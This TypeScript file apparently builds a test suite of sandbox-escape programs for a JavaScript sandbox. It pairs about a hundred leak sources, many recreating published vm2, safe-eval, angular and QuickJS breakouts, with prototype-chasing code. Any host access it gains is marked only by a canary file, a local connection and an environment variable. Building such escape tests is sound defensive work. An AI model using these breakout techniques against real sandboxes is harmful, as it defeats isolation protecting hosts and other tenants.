/**
 * Ways out of a sandbox, in two tables. A source gives `found`, a list of values that may come from the host; a chase looks for a
 * function of the host in each of them, and plants effects with it: a file, a variable of the environment, a connection. Each
 * source with each chase is one program. Those that have a number were published, of vm2 unless it says otherwise.
 */
const sources: Readonly<Record<string, string>> = {
  'the constructor of a tool': 'found.push(tools.echo)',
  'a namespace': 'found.push(tools, env, Object.getPrototypeOf(tools), tools.__lookupGetter__)',
  'the answer of a tool': 'found.push(await tools.echo({ a: { b: [1] } }))',
  'the promise of a tool': 'const p = tools.echo(); found.push(p, p.then, p.constructor); await p',
  'the error of a tool': 'try { await tools.fail() } catch (e) { found.push(e, e.stack, e.message) }',
  'an odd error of a tool': 'try { await tools.failOddly() } catch (e) { found.push(e) }',
  'the error of an unknown tool': 'try { tools.nope } catch (e) { found.push(e) }',
  'the error of a limit':
    'try { await Promise.all(Array(50).fill().map(() => tools.echo())) } catch (e) { found.push(e) }',
  'the console': 'found.push(console, console.log, console.log())',
  timers: 'found.push(setTimeout, sleep, setTimeout(() => {}), sleep(1))',
  addresses:
    'found.push(URL, new URL("http://a"), URLSearchParams, new URLSearchParams().entries()); try { new URL("") } catch (e) { found.push(e) }',
  clones:
    'found.push(structuredClone, structuredClone({}), structuredClone(new Error("x"))); try { structuredClone(() => {}) } catch (e) { found.push(e) }',
  encoders:
    'found.push(TextEncoder, new TextEncoder().encode("a"), new TextDecoder(), atob, btoa); try { atob("*") } catch (e) { found.push(e) }',
  'the constructors of functions':
    'found.push((async () => {}).constructor, (function* () {}).constructor, (async function* () {}).constructor)',
  'the global object':
    'for (const key of Reflect.ownKeys(globalThis)) found.push(globalThis[key]); found.push(globalThis, this)',
  'the caller':
    '(function () { try { found.push(arguments.callee.caller) } catch {} })(); try { found.push((() => {}).caller) } catch {}',
  'the caller of a getter':
    'await tools.echo({ get a() { try { found.push(new Function("return arguments.callee.caller")()) } catch {} return 1 } })',
  'the caller of toJSON': 'await tools.echo({ toJSON() { found.push(this, arguments); return 1 } })',
  'frames of a stack':
    'Error.prepareStackTrace = (e, frames) => { found.push(frames, ...[].concat(frames)); return frames }; found.push(new Error("x").stack); try { null.x } catch (e) { found.push(e.stack) }',
  'frames in the bridge':
    'Error.prepareStackTrace = (e, frames) => { for (const f of [].concat(frames)) { try { found.push(f.getThis(), f.getFunction()) } catch {} } return "" }; try { await tools.fail() } catch (e) { e.stack } try { tools.nope } catch (e) { e.stack }',
  'a captured stack': 'const o = {}; Error.captureStackTrace?.(o); found.push(o.stack, Error.stackTraceLimit)',
  'an overflow':
    'const f = () => { try { f() } catch (e) { found.push(e) } }; f(); found.length = Math.min(found.length, 20)',
  'an overflow in the bridge':
    'const f = (n) => { try { tools.echo({ n }); f(n + 1) } catch (e) { if (found.length < 20) found.push(e) } }; try { f(0) } catch (e) { found.push(e) }',
  'an overflow in an address':
    'const f = () => { try { new URL("http://a"); f() } catch (e) { if (found.length < 20) found.push(e) } }; f()',
  import:
    'for (const name of ["fs", "node:fs", "process", "data:text/javascript,export default 1", "file:///etc/passwd", "./x.js"]) try { found.push(await import(name)) } catch (e) { found.push(e) }',
  'import in a Function':
    'try { found.push(await new Function("return import(\\"node:fs\\")")()) } catch (e) { found.push(e) }',
  WebAssembly: 'found.push(typeof WebAssembly === "undefined" ? 0 : WebAssembly)',
  eval: 'found.push(eval("this"), (0, eval)("this"), (0, eval)("typeof process"))',
  Function: 'found.push(new Function("return this")(), Function("return globalThis")())',
  'the species of a promise':
    'class P extends Promise { constructor(f) { super((a, b) => { found.push(a, b); f(a, b) }) } } P.resolve(tools.echo()); Object.defineProperty(Promise, Symbol.species, { get() { return P } }); await tools.echo().then((x) => x)',
  'the then of a promise':
    'const { then } = Promise.prototype; Promise.prototype.then = function (a, b) { found.push(this, a, b); return then.call(this, a, b) }; await tools.echo(); Promise.prototype.then = then',
  'a value that is awaited':
    'await { then(a, b) { found.push(a, b); a() } }; await tools.echo({ then(a) { found.push(a) } }).catch(() => {})',
  'the constructor of promises':
    'globalThis.Promise = class { constructor(f) { found.push(f); f((x) => found.push(x), (x) => found.push(x)) } }; found.push(tools.echo())',
  'Function.prototype.call':
    'for (const name of ["call", "apply", "bind"]) { const old = Function.prototype[name]; Function.prototype[name] = function (...all) { if (found.length < 50) found.push(this, ...all); return Reflect.apply(old, this, all) } } await tools.echo(); new URL("http://a").href',
  Reflect:
    'const { apply } = Reflect; Reflect.apply = (...all) => { found.push(...all); return apply(...all) }; await tools.echo(); console.log("x")',
  JSON: 'const { parse, stringify } = JSON; JSON.parse = (...all) => { found.push(...all); return parse(...all) }; JSON.stringify = (...all) => { found.push(...all); return stringify(...all) }; await tools.echo(); String(new URLSearchParams("a=1"))',
  'setters of arrays':
    'for (const key of [0, 1, 2, "length2"]) Object.defineProperty(Array.prototype, key, { configurable: true, set(v) { found.push?.(v) } }); try { await tools.echo([1]) } catch {} for (const key of [0, 1, 2]) delete Array.prototype[key]',
  'setters of objects':
    'for (const key of ["answer", "fail", "get", "set", "value", "kind", "id", "text", "calls", "native", "halt", "toJSON"]) Object.defineProperty(Object.prototype, key, { configurable: true, get() { found.push(this) }, set(v) { found.push(v, this) } }); try { await tools.echo({ a: 1 }); tools.nope } catch {} for (const key of ["answer", "fail", "get", "set", "value", "kind", "id", "text", "calls", "native", "halt", "toJSON"]) delete Object.prototype[key]',
  symbols:
    'for (const name of Reflect.ownKeys(Symbol)) if (typeof Symbol[name] === "symbol") { try { found.push(tools[Symbol[name]], tools.echo[Symbol[name]], console.log[Symbol[name]]) } catch {} }',
  toPrimitive:
    'const o = { [Symbol.toPrimitive](hint) { found.push(this, hint); return "echo" } }; try { found.push(tools[o]) } catch {} setTimeout(() => {}, o); sleep(o); new URL(o, "http://a")',
  proxies:
    'const p = new Proxy(() => {}, new Proxy({}, { get: (t, trap) => (...all) => { found.push(...all); return Reflect[trap](...all) } })); try { await tools.echo(p) } catch {} try { await tools.echo({ p: new Proxy({}, new Proxy({}, { get: (t, trap) => (...all) => { found.push(...all); return Reflect[trap](...all) } })) }) } catch {}',
  'a revoked proxy':
    'const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); try { await tools.echo(proxy) } catch (e) { found.push(e) } console.log(proxy)',
  generators:
    'const g = (function* () { found.push(yield) })(); g.next(); g.next(tools.echo); found.push(g, Object.getPrototypeOf(g))',
  'async generators':
    'async function* f() { found.push(yield tools.echo()) } const g = f(); found.push(await g.next(), g.return(tools.echo()))',
  iterators:
    'found.push(Object.getPrototypeOf([][Symbol.iterator]()), Object.getPrototypeOf("".matchAll(/a/g)), Iterator.prototype)',
  'weak references':
    'found.push(typeof WeakRef === "undefined" ? 0 : WeakRef, typeof FinalizationRegistry === "undefined" ? 0 : new FinalizationRegistry((x) => found.push(x)))',
  disposal:
    'found.push(typeof DisposableStack === "undefined" ? 0 : DisposableStack, typeof SuppressedError === "undefined" ? 0 : SuppressedError)',
  'new.target and super':
    'class A extends tools.echo.constructor {} try { found.push(new A("return this")()) } catch {} found.push(Reflect.construct(Function, ["return this"], A)())',
  'the realm of a bound function':
    'found.push(Reflect.construct(Object, [], tools.echo.bind()), Object.getPrototypeOf(async () => {}))',
  'labels and comments of the wrapper': 'found.push((() => { try { return eval("arguments") } catch { return 0 } })())',
  'the number of a call':
    'for (const name of ["__proto__", "constructor", "toString", "hasOwnProperty"]) try { found.push(tools[name], env[name], await tools[name]?.({})) } catch {}',
  'a regular expression':
    'RegExp.prototype.exec = function (t) { found.push(this, t); return null }; String.prototype.includes = function (t) { found.push(this, t); return false }; await tools.hostile(); "a".match(/a/)',
  'dates and languages':
    'found.push(new Date().toLocaleString.constructor, Intl_ = typeof Intl === "undefined" ? 0 : Intl)',
  'the source of the bridge':
    'found.push(tools.echo.toString(), console.log.toString(), URL.toString(), Function.prototype.toString.call(sleep))',
  'CVE-2019-10761, an overflow with a host frame':
    'const f = (n) => { try { tools.echo({ toJSON() { f(n + 1) } }) } catch (e) { if (found.length < 20) found.push(e) } }; try { f(0) } catch (e) { found.push(e) }',
  'CVE-2021-23449, the error of an import':
    'await import("foo").catch((e) => found.push(e, e.constructor)); const p = import("bar"); found.push(p); await p.catch(() => {})',
  'CVE-2021-23555, prepareStackTrace on an error of the host':
    'Error.prepareStackTrace = (e, frames) => { found.push(e, frames); return frames }; try { tools.echo(tools, { get x() { throw new Error() } }).stack } catch (e) { found.push(e.stack) } try { atob({}) } catch (e) { found.push(e.stack) }',
  'CVE-2022-25893, a WeakMap that is replaced':
    'for (const K of [WeakMap, Map, WeakSet, Set]) for (const name of ["get", "set", "has", "add"]) { const old = K.prototype[name]; if (old) K.prototype[name] = function (...all) { if (found.length < 50) found.push(this, ...all); return Reflect.apply(old, this, all) } } await tools.echo({ a: new Date() }); structuredClone([{}])',
  'CVE-2022-36067, an Error that is replaced':
    'const Own = class extends Error {}; Own.prepareStackTrace = (e, frames) => { found.push(frames); return frames }; const old = globalThis.Error; globalThis.Error = Own; try { await tools.fail() } catch (e) { found.push(e, e.stack) } try { tools.nope } catch (e) { found.push(e) } globalThis.Error = old',
  'CVE-2023-29017, prepareStackTrace of a rejection':
    'Error.prepareStackTrace = (e, frames) => { found.push(frames, ...[].concat(frames)); return frames }; const f = async () => { throw new Error().stack }; await f().catch((e) => found.push(e)); await tools.fail().catch((e) => found.push(e.stack))',
  'CVE-2023-29199, an error while an error is handled':
    'Error.prepareStackTrace = (e, frames) => { found.push(e); throw { toString() { found.push(this); return "x" } } }; try { try { null.x } catch (e) { e.stack } } catch (e) { found.push(e) } const f = () => { f(); try { tools.nope } catch (e) { found.push(e) } }; try { f() } catch (e) { found.push(e) }',
  'CVE-2023-30547, a proxy whose getPrototypeOf throws':
    'const f = () => { f() }; const p = new Proxy({}, { getPrototypeOf() { try { f() } catch (e) { found.push(e) } throw new Proxy({}, {}) } }); try { Object.getPrototypeOf(p) } catch (e) { found.push(e) } try { await tools.echo(p) } catch (e) { found.push(e) } try { throw p } catch (e) { console.log(e) }',
  'CVE-2023-32313, an object that is inspected':
    'const o = { [Symbol.for("nodejs.util.inspect.custom")](depth, options, inspect) { found.push(depth, options, inspect); return this }, inspect(...all) { found.push(...all) } }; console.log(o); console.error(new Proxy(o, {})); console.log(Object.assign(() => {}, o))',
  'CVE-2023-32314, a proxy among the frames':
    'Error.prepareStackTrace = new Proxy(() => {}, { apply(target, receiver, all) { found.push(receiver, ...all); return all } }); try { null.x } catch (e) { found.push(e.stack) } try { await tools.fail() } catch (e) { found.push(e.stack) }',
  'CVE-2023-37466, the species of a rejected promise':
    'const p = (async () => { const e = new Error(); e.name = Symbol(); return e.stack })(); p.constructor = { [Symbol.species]: class { constructor(f) { f((x) => found.push(x), (e) => found.push(e)) } } }; try { p.then() } catch (e) { found.push(e) } await new Promise((f) => setTimeout(f))',
  'CVE-2023-37903, an inspect of what is imported':
    'const o = { [Symbol.for("nodejs.util.inspect.custom")]: (depth, options, inspect) => { found.push(inspect, options) } }; await import("x").catch((e) => found.push(e, e.cause)); try { new WebAssembly.Module(o) } catch (e) { found.push(e) } console.log([o], { o })',
  'CVE-2026-22709, a then that is replaced for async functions':
    'const e = new Error(); e.name = Symbol(); const f = async () => e.stack; const { then } = Promise.prototype; Promise.prototype.then = function (...all) { found.push(...all); return Reflect.apply(then, this, all) }; const p = f(); p.catch((x) => found.push(x, x.constructor)); await then.call(p, () => {}, () => {}); Promise.prototype.then = then',
  'of safe-eval, the constructor of a timer':
    'for (const name of ["setTimeout", "clearTimeout", "setImmediate", "clearImmediate", "queueMicrotask"]) if (globalThis[name]) found.push(globalThis[name], globalThis[name].constructor)',
  'of safe-eval, an object without a prototype':
    'found.push(Object.create(null), Object.setPrototypeOf(tools.echo.bind(), null), { __proto__: null })',
  'of angular, the constructor of a string':
    'found.push("".constructor, "a".sub, "a".sub.call.call, ({})["constructor"], [].constructor, 0..constructor)',
  'of angular, charAt that is replaced':
    'const { charAt } = String.prototype; String.prototype.charAt = [].join; try { found.push(eval("1"), JSON.parse("[1]"), await tools.echo({ a: "1" })) } finally { String.prototype.charAt = charAt }',
  'of static-eval, a function in a template':
    'const tag = (...all) => { found.push(...all, tag.constructor) }; eval("tag`a" + "$" + "{() => {}}b`"); tag.call`c`',
  'of notevil, a name that is made':
    'const o = {}; for (const name of ["con" + "structor", ["constructor"], { toString: () => "constructor" }]) found.push(o[name], tools.echo[name], (() => {})[name])',
  'of jailed, the prototype of the console':
    'for (let o = console; o; o = Object.getPrototypeOf(o)) for (const name of Reflect.ownKeys(o)) found.push(o[name], Object.getOwnPropertyDescriptor(o, name))',
  'of realms, a symbol that is shared':
    'for (const name of ["a", "nodejs.rejection", "nodejs.util.promisify.custom", "nodejs.dispose"]) found.push(Symbol.for(name), tools.echo[Symbol.for(name)], console.log[Symbol.for(name)])',
  'of realms, a getter of the global object':
    'for (const name of Reflect.ownKeys(globalThis)) { const { get, set } = Object.getOwnPropertyDescriptor(globalThis, name); found.push(get, set) }',
  'of realms, the completion of a script':
    'found.push(eval("(function () { return this })()"), eval("globalThis"), (0, eval)("var x = this; x"))',
  'of isolated-vm, a reference of the host':
    'for (const name of ["$0", "$1", "_ivm", "ivm", "Isolate", "Reference", "ExternalCopy", "Callback", "global"]) if (name in globalThis) found.push(globalThis[name]); found.push(tools.echo.applySync, tools.echo.derefInto, tools.echo.getSync)',
  'of isolated-vm, a copy of the host':
    'const sent = { d: new Date(), m: { toJSON: undefined }, b: [[]], r: /a/ }; const got = await tools.echo(sent); found.push(got, got.d, got.b, got.r, await tools.echo(JSON.parse(JSON.stringify(got))))',
  'of Node, a binding':
    'for (const name of ["process", "require", "module", "exports", "global", "Buffer", "internalBinding", "primordials", "__filename"]) try { found.push(eval(name)) } catch (e) { found.push(e) }',
  'of Node, a main module':
    'try { found.push(globalThis.process?.mainModule, new Function("return import.meta")()) } catch (e) { found.push(e) }',
  'of Node, an event that is not handled':
    'Promise.reject(Object.assign(new Error("x"), { get stack() { found.push(this); return "" } })); new Promise((_, fail) => fail(tools.echo)); await sleep(1)',
  'of Workers, a message':
    'for (const name of ["postMessage", "onmessage", "self", "parentPort", "workerData", "MessageChannel", "BroadcastChannel"]) if (name in globalThis) found.push(globalThis[name])',
  'of QuickJS, its own modules':
    'for (const name of ["std", "os", "qjs:std", "qjs:os", "bjson", "qjs:bjson"]) try { found.push(await import(name)) } catch (e) { found.push(e) } for (const name of ["std", "os", "scriptArgs", "print", "bjson", "gc", "__loadScript"]) if (name in globalThis) found.push(globalThis[name])',
  'of QuickJS, an array that changes while it is sorted':
    'const a = Array.from({ length: 100 }, (_, n) => ({ n })); a.sort((x, y) => { a.length = 0; a[50] = tools.echo; return x.n - y.n }); found.push(...a); [3, 2, 1].toSorted(() => { a.push(1); return -1 })',
  'of QuickJS, a buffer that goes while it is read':
    'const b = new ArrayBuffer(64, { maxByteLength: 4096 }); const u = new Uint8Array(b); const gone = { valueOf() { b.resize(0); return 0 } }; try { u.fill(gone); u.set([gone, 1]); new DataView(b).setInt8(gone, 1) } catch (e) { found.push(e) } found.push(u.at(gone), u.subarray(gone), b.slice(gone))',
  'of QuickJS, a buffer that is given away':
    'const b = new ArrayBuffer(64); const u = new Float64Array(b); const c = b.transfer?.(4096); try { u[0] = 1; found.push(u[0], u.buffer, c, structuredClone(u)) } catch (e) { found.push(e) } try { u.copyWithin({ valueOf() { return 0 } }, 1) } catch (e) { found.push(e) }',
  'of QuickJS, a splice with a false length':
    'const a = new Proxy([1, 2, 3], { get: (t, k) => (k === "length" ? 5_000 : t[k]) }); for (const name of ["splice", "slice", "concat", "with", "at", "flat"]) try { found.push(Array.prototype[name].call(a, 4_998, 1)) } catch (e) { found.push(e) }',
  'of QuickJS, a species that lies':
    'class A extends Array { static get [Symbol.species]() { return function () { return new Proxy([], { set(t, k, v) { found.push(v); return true }, defineProperty: () => true }) } } } const a = A.from([1, 2, 3]); for (const name of ["map", "filter", "slice", "splice", "concat", "flat"]) try { found.push(a[name]((x) => x)) } catch (e) { found.push(e) }',
  'of QuickJS, a map that changes while it is read':
    'const m = new Map([[1, 1], [2, 2]]); for (const [k] of m) { m.clear(); if (found.length < 9) { m.set(found.length + 9, {}); found.push(k) } } const s = new Set([1]); s.forEach((x) => { s.delete(x); if (x < 9) s.add(x + 1) })',
  'of QuickJS, an iterator that is closed twice':
    'const it = { [Symbol.iterator]: () => ({ next: () => ({ value: it, done: false }), return() { found.push(this); throw 1 } }) }; try { const [a] = it; found.push(a) } catch (e) { found.push(e) } try { for (const a of it) { found.push(a); break } } catch (e) { found.push(e) } try { new Map({ [Symbol.iterator]: () => ({ next: () => ({ value: 1, done: false }), return() { found.push(this); return 1 } }) }) } catch (e) { found.push(e) }',
  'of QuickJS, a generator in itself':
    'const g = (function* () { try { g.next() } catch (e) { found.push(e) } yield* g })(); try { g.next() } catch (e) { found.push(e) } async function* f() { yield 1 } const h = f(); found.push(await h.next(), await h.return(h))',
  'of QuickJS, a regular expression that changes':
    'const r = /a/g; r.lastIndex = { valueOf() { r.compile?.("b".repeat(99)); return 0 } }; try { found.push(r.exec("aa"), "aaa".replace(r, () => { r.compile?.("(x)(y)"); return "b" }), "ab".split(r)) } catch (e) { found.push(e) }',
  'of QuickJS, JSON that changes while it is written':
    'const o = { a: { toJSON() { delete o.b; o.c = tools.echo; return 1 } }, b: [1] }; try { found.push(JSON.stringify(o)) } catch (e) { found.push(e) } found.push(JSON.parse("[1,[2]]", function (k, v) { if (k === "0") this[1] = o; return v }))',
  'of QuickJS, an index that is out of reach':
    'const s = "a".repeat(100); for (const n of [-1, 2 ** 31, 2 ** 32, 2 ** 53, NaN]) { found.push(s.at(n), s.substr(n, 5), s.codePointAt(n), [1].at(n), new Uint8Array(4)[n]); try { found.push(s.padEnd(2 ** 31)) } catch (e) { found.push(e) } }',
  'of QuickJS, a proxy of a proxy that is an array':
    'let p = []; for (let n = 0; n < 20_000; n++) p = new Proxy(p, {}); try { found.push(Array.isArray(p)) } catch (e) { found.push(e) } try { JSON.stringify(p) } catch (e) { found.push(e) }',
  'of QuickJS, a source that is nested':
    'for (const c of ["[".repeat(1_000), "(".repeat(1_000), "\\u0060$".concat("{").repeat(500), "/(".repeat(500), "{a:".repeat(500)]) try { found.push(eval(c)) } catch (e) { found.push(e) } try { new RegExp("(".repeat(1_000) + ")".repeat(1_000)) } catch (e) { found.push(e) }',
  'of QuickJS, a bigint at its edge':
    'for (const n of [2n ** 1_000n, -(2n ** 63n), 0n]) for (const f of [() => n << 62n, () => BigInt.asIntN(63, n), () => n.toString(36), () => BigInt.asUintN(2 ** 31, n)]) try { found.push(f()) } catch (e) { found.push(e) }',
  'of QuickJS, an async function that is resumed twice':
    'let again; const thenable = { then(f) { again = f; f(1) } }; const f = async () => { await thenable; found.push(1) }; await f(); again(2); again(tools.echo); found.push(thenable)',
  'of QuickJS, a private name that is there twice':
    'class Base { constructor(o) { return o } } class A extends Base { #x = 1; static read(o) { return o.#x } } const o = {}; new A(o); try { new A(o) } catch (e) { found.push(e) } try { new A(tools) ; found.push(A.read(tools)) } catch (e) { found.push(e) } try { new A(env) } catch (e) { found.push(e) }',
  'of vm2, a buffer':
    'for (const name of ["Buffer", "Uint8Array"]) if (globalThis[name]) found.push(globalThis[name], globalThis[name].from?.([1]))',
  'of vm2, the prototype of an async generator':
    'found.push(Object.getPrototypeOf((async function* () {})()), Object.getPrototypeOf(async function* () {}))',
  'of vm2, a getter that all objects have':
    'Object.prototype.__defineGetter__("x1", function () { found.push(this); return 1 }); try { tools.echo.x1; console.x1; (await tools.echo({})).x1; env.x1 } catch (e) { found.push(e) } delete Object.prototype.x1',
  'of vm2, a list of the host': 'const a = await tools.echo([[1]]); found.push(a, a[0], a.map, a.concat([tools.echo]))',
  'of vm2, the arguments of a function':
    '(function () { found.push(arguments, arguments[Symbol.iterator], this) }).call(tools.echo, tools)',
  'of Deno, an error with a cause':
    'try { throw new Error("x", { cause: tools.echo }) } catch (e) { found.push(e.cause, e) } try { await Promise.any([tools.fail()]) } catch (e) { found.push(e, ...(e.errors ?? [])) }',
  'of SandboxJS, the entries of an object':
    'found.push(Object.entries({ a: tools.echo }), Object.fromEntries([["a", tools.echo]]).a, Object.groupBy?.([tools.echo], () => "a"))',
};

/** What looks for a function of the host, from a `value`; `use` makes the effects. */
const chases: Readonly<Record<string, string>> = {
  'its constructors': 'use(value.constructor?.constructor, value.constructor, value);',
  'its members': `for (const key of Reflect.ownKeys(Object(value)).slice(0, 25)) {
  const { value: member, get, set } = Object.getOwnPropertyDescriptor(value, key) ?? {};
  for (const one of [member, get, set]) use(one?.constructor?.constructor, one?.constructor, one);
}`,
  'what it answers': `if (typeof value !== 'function') break;
for (const call of [() => value('return this'), () => Reflect.apply(value, null, [() => value]), () => Reflect.construct(value, ['return this'])]) {
  let answer;
  try { answer = call() } catch (e) { answer = e }
  answer?.catch?.(() => {});
  use(answer?.constructor?.constructor, answer?.constructor, answer);
}`,
};

/** Where an effect shows. */
export interface Plants {
  /** Path of a file that nobody else writes. */
  readonly canary: string;
  /** A port on 127.0.0.1, on which a connection is noticed. */
  readonly port: number;
}

export interface Escape {
  readonly source: string;
  readonly chase: string;
  /** The program; it returns `no`, or `yes` if it has reached the host or another tenant. */
  code(plants: Plants): string;
}

export const escapes: readonly Escape[] = Object.entries(sources).flatMap(([source, way]) =>
  Object.entries(chases).map(([chase, follow]) => ({
    source,
    chase,
    code: (plants) => write({ way, follow, plants }),
  })),
);

interface Parts {
  readonly way: string;
  readonly follow: string;
  readonly plants: Plants;
}

/** The source is in a function, so that it can end early; what the chase needs is taken before it can be changed. */
function write({ way, follow, plants: { canary, port } }: Parts): string {
  return `const found = []; let Intl_; let escaped = 'no';
const { getPrototypeOf, getOwnPropertyDescriptor } = Object;
const use = (...all) => {
  for (const make of all) {
    if (typeof make !== 'function' || escaped === 'yes') continue;
    let host;
    try { host = make('return typeof process === "object" && process')() } catch {}
    if (!host || !host.versions) continue;
    escaped = 'yes';
    host.getBuiltinModule('fs').writeFileSync(${JSON.stringify(canary)}, 'escaped');
    host.getBuiltinModule('net').connect(${port}, '127.0.0.1').on('error', () => {}).end();
    host.env.HELVE_SANDBOX_ESCAPED = 'yes';
  }
};
try { await (async () => { ${way} })() } catch (e) { found.push(e) }
// Chasing makes errors, and a source may find more in them without end.
const count = Math.min(found.length, 150);
for (let at = 0; at < count; at++) {
  for (let value = found[at], step = 0; value !== null && value !== undefined && step < 5; step++) {
    try {
      ${follow}
      value = getPrototypeOf(value);
    } catch { break }
  }
}
return typeof secretOfAnother === 'undefined' ? escaped : 'yes';`;
}
